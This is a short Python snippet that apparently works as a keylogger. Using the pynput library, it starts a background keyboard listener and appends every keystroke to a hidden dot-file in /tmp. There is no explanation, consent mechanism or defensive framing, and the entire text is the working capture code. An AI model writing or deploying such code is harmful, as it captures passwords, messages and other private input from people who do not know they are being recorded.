from pynput import keyboard

kept = open('/tmp/.k', 'a')


def on_press(key):
    kept.write(str(key))


keyboard.Listener(on_press=on_press).start()
